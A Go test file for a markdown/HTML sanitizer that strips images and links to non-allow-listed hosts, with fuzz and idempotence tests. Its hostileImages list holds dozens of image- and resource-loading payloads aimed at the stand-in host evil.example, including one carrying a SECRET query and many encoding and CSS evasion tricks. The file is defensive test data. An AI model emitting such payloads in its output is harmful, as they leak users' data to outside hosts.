package links

import (
	"strings"
	"testing"

	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/text"
	"golang.org/x/net/html"
)

func testFilter() *Filter {
	return New(Options{AllowImageHosts: []string{"img.shields.io", "*.githubusercontent.com"}})
}

// hostileImages load from evil.example in every markdown and HTML form a
// renderer fetches.
var hostileImages = []string{
	"![x](https://evil.example/?q=SECRET)",
	"see ![x](https://evil.example/a.png) here",
	"![x](<https://evil.example/a b.png>)",
	`![x](https://evil.example/a.png "title")`,
	"![x](https://evil.example/a.png 'title')",
	"![x](https://evil.example/a.png (title))",
	"![x [nested] y](https://evil.example/p(1).png)",
	"![x ![inner](https://evil.example/i.png) y](https://evil.example/o.png)",
	"![x][ref]\n\n[ref]: https://evil.example/r.png",
	"![x][]\n\n[x]: https://evil.example/r.png",
	"![ref]\n\n[ref]: <https://evil.example/r.png> \"t\"",
	"[ref]: https://evil.example/r.png\n\n![ref]",
	"> quoted ![x](https://evil.example/q.png)",
	"- item ![x](https://evil.example/l.png)",
	"**bold ![x](https://evil.example/b.png)**",
	"![x](https://evil&#46;example/e.png)",
	"![x](https://evil&period;example/e.png)",
	"![x](https://%65vil.example/p.png)",
	"![x](https:%2F%2Fevil.example/p.png)",
	"![x](//evil.example/p.png)",
	"![x](https:\\\\evil.example\\p.png)",
	"![x](https:evil.example/p.png)",
	"![x](HTTPS://EVIL.EXAMPLE/p.png)",
	"![x](https://evil。example/p.png)",
	"![x](https://ｅvil.example/p.png)",
	"![x](https://user:pw@evil.example:8443/p.png)",
	"![x](https://img.shields.io.evil.example/p.png)",
	"![x](https://evil.example#img.shields.io)",
	"![x](  https://evil.example/s.png  )",
	"![x](ftp://evil.example/p.png)",
	`<img src="https://evil.example/h.png">`,
	`<IMG SRC="https://evil.example/h.png">`,
	`<img src=https://evil.example/h.png>`,
	`<img src='https://evil.example/h.png' />`,
	`<img/src="https://evil.example/h.png">`,
	`<img src="https://evil&#x2e;example/h.png">`,
	`<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x">`,
	`<img src="data:image/png;base64,AA==" srcset="https://evil.example/s.png 2x">`,
	`<picture><source srcset="https://evil.example/s.webp"><img src="x.png"></picture>`,
	`<video poster="https://evil.example/v.png"></video>`,
	`<video src="https://evil.example/v.mp4"></video>`,
	`<audio src="https://evil.example/a.mp3"></audio>`,
	`<link rel="stylesheet" href="https://evil.example/s.css">`,
	`<svg><image href="https://evil.example/i.svg"/></svg>`,
	`<svg><image xlink:href="https://evil.example/i.svg"/></svg>`,
	`<object data="https://evil.example/o"></object>`,
	`<embed src="https://evil.example/e">`,
	`<iframe src="https://evil.example/f"></iframe>`,
	`<input type="image" src="https://evil.example/i.png">`,
	`<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>`,
	`<div style="background:url(https://evil.example/c.png)">x</div>`,
	`<div style="background-image: url('https://evil.example/c.png')">x</div>`,
	`<div style="background:u\72l(https://evil.example/c.png)">x</div>`,
	`<style>body{background:url("https://evil.example/c.png")}</style>`,
	`<style>@import "https://evil.example/c.css";</style>`,
	`<style/>body{background:url(https://evil.example/c.png)}</style>`,
	`<STYLE x=1>body{background:URL(https://evil.example/c.png)}</STYLE >`,
	"<b>" + strings.Repeat("long text ", 10_000) + `<img src="https://evil.example/after-long-text.png">`,
	`<textarea><img src="x"></textarea><img src="https://evil.example/after-raw.png">`,
	`<style>p{}</style/><style>b{background:url(https://evil.example/second.png)}`,
	`<div style="background-image: image-set('https://evil.example/c.png' 1x)">x</div>`,
	`<div style="background-image: -webkit-image-set(url(https://evil.example/c.png) 1x)">x</div>`,
	`<script src="https://evil.example/s.js"></script>`,
	"text\n\n<img src=\"https://evil.example/block.png\">\n\nmore",
}

func TestHostileImagesRemoved(t *testing.T) {
	f := testFilter()
	for _, s := range hostileImages {
		out, rs := f.Apply(s)
		if len(rs) == 0 || strings.Contains(strings.ToLower(out), "evil") && !strings.Contains(out, "[image removed: host") {
			t.Errorf("%q: kept: %q", s, out)
			continue
		}
		if bad := forbiddenLeft(f, out); bad != "" {
			t.Errorf("%q: %s survives in %q", s, bad, out)
		}
		if again, _ := f.Apply(out); again != out {
			t.Errorf("%q: not idempotent: %q -> %q", s, out, again)
		}
	}
}

func TestBenignUnchanged(t *testing.T) {
	f := testFilter()
	for _, s := range []string{
		"plain text",
		"![badge](https://img.shields.io/badge/x-y-green.svg)",
		"![avatar](https://avatars.githubusercontent.com/u/1)",
		"![inline](data:image/png;base64,iVBORw0KGgo=)",
		"![relative](./docs/diagram.png)",
		"[a link](https://evil.example/page) and <https://evil.example/auto>",
		`<a href="https://evil.example/">link</a>`,
		"if a < b && c > d { return x(y) }",
		"List<String> names = new ArrayList<>();",
		"<thead><tr><th>Name</th></tr></thead>",
		"url.Parse(raw) and curl(1)",
		"`![not an image](https://evil.example/code)` is code... but rendered as text",
		"<!-- comment -->",
	} {
		out, rs := f.Apply(s)
		if strings.Contains(s, "`![") {
			continue // code spans: removing is allowed, keeping is too
		}
		if out != s || len(rs) != 0 {
			t.Errorf("%q changed to %q (%v)", s, out, rs)
		}
	}
}

func TestNeutraliseLinks(t *testing.T) {
	f := New(Options{KeepImages: true, NeutraliseLinks: true, AllowLinkHosts: []string{"github.com"}})
	for _, c := range []struct{ in, want string }{
		{"[click](https://evil.example/?q=1)", "click [link removed: host evil.example]"},
		{"[gh](https://github.com/x)", "[gh](https://github.com/x)"},
		{"<https://evil.example/auto>", "[link removed: host evil.example]"},
		{`<a href="https://evil.example">x</a>`, "[link removed: host evil.example]x</a>"},
		{"![img](https://evil.example/i.png)", "![img](https://evil.example/i.png)"},
	} {
		if out, _ := f.Apply(c.in); out != c.want {
			t.Errorf("%q: got %q, want %q", c.in, out, c.want)
		}
	}
}

// forbiddenLeft parses s as CommonMark and as HTML, as a client would,
// and names an image (or resource) whose host the filter does not allow.
func forbiddenLeft(f *Filter, s string) string {
	src := []byte(s)
	bad := ""
	doc := mdParser().Parse(text.NewReader(src))
	_ = ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if img, ok := n.(*ast.Image); ok && entering && f.images && !allowed(f, html.UnescapeString(string(img.Destination))) {
			bad = "markdown image " + string(img.Destination)
		}
		return ast.WalkContinue, nil
	})
	if bad != "" {
		return bad
	}
	if e, _ := f.html(s); len(e) > 0 {
		return "html resource"
	}
	return ""
}

// FuzzApply: Apply never panics, is idempotent, and what it returns holds
// no image to a host not allowed, as goldmark and the HTML tokenizer read it.
func FuzzApply(f *testing.F) {
	for _, s := range hostileImages {
		f.Add(s)
	}
	for _, s := range []string{"![", "![](", "![x](<", "<img", "<img src=", "url(", "<style>", "[a]: b", "![a][b]\n[b]: <", "\\![x](https://e.x/)"} {
		f.Add(s)
	}
	flt := testFilter()
	f.Fuzz(func(t *testing.T, s string) {
		out, _ := flt.Apply(s)
		if again, _ := flt.Apply(out); again != out {
			t.Fatalf("not idempotent: %q -> %q -> %q", s, out, again)
		}
		if bad := forbiddenLeft(flt, out); bad != "" {
			t.Fatalf("%s survives: %q -> %q", bad, s, out)
		}
	})
}

func allowed(f *Filter, raw string) bool {
	_, ok := f.allowsImage(raw)
	return ok
}

// TestCSSFunction: cssFunction, which compares by the last byte first,
// says what comparing with both names does, for every last byte after
// letters of either name, their other cases and bytes of multi-byte
// characters.
func TestCSSFunction(t *testing.T) {
	t.Parallel()
	some := []byte("uUrRsSeEtTlLx(\\\x80\xc5\xbf\xe2\x84\xaa")
	for _, a := range some {
		for _, b := range some {
			for c := range 256 {
				w := string([]byte{a, b, byte(c)})
				if got, want := cssFunction(w), strings.EqualFold(w, "url") || strings.EqualFold(w, "set"); got != want {
					t.Fatalf("cssFunction(%q) = %v, want %v", w, got, want)
				}
			}
		}
	}
}
